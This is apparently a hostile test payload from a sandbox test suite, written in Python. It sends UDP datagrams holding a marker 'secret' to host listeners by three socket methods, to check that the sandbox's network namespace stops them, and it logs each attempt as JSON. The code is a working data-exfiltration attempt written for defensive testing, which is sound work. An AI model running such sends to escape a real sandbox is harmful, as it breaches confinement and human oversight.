"""Hostile payload (network): UDP datagrams to listeners the harness opened on the host, one
argument per target "ADDRESS:PORT" (host loopback, the host's non-loopback address). Landlock
does not cover UDP: the sandbox's network namespace is what must keep every datagram from the
host. The harness counts the datagrams its listeners received (must be 0).

Per target: sendto on an unconnected socket, connect + send, and sendmsg. One JSON line per
attempt: {"op": "udp_send_loopback" | "udp_send_host", "target": T, "ret": R, "errno": NAME}
("OK" when the kernel accepted the datagram: on the sandbox's own loopback that is expected, the
datagram goes nowhere; only the host listeners' counts say whether it left. "SKIPPED" when the
harness found no non-loopback host address)."""
import errno
import json
import socket
import sys

SECRET = b"exfiltrated-by-hostile-payload"


def report(op, target, ret, err):
    print(json.dumps({"op": op, "target": target, "ret": ret,
                      "errno": "OK" if err is None else errno.errorcode.get(err, str(err))}),
          flush=True)


def attempt(op, target, fn):
    try:
        ret = fn()
    except OSError as e:
        report(op, target, -1, e.errno)
    else:
        report(op, target, ret if isinstance(ret, int) else 0, None)


for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    host = host.strip("[]")
    if not host:  # the harness had no non-loopback host address to offer
        print(json.dumps({"op": "udp_send_host", "target": target, "ret": 0, "errno": "SKIPPED",
                          "reason": "no host address"}))
        continue
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    addr = (host, int(port))
    # Loopback targets are routable inside the sandbox (its own lo), the host's address is not.
    op = "udp_send_loopback" if host in ("127.0.0.1", "::1") else "udp_send_host"
    for _ in range(3):
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            attempt(op, target, lambda: s.sendto(SECRET, addr))
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            def connected():
                s.connect(addr)
                return s.send(SECRET)
            attempt(op, target, connected)
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            attempt(op, target, lambda: s.sendmsg([SECRET], [], 0, addr))
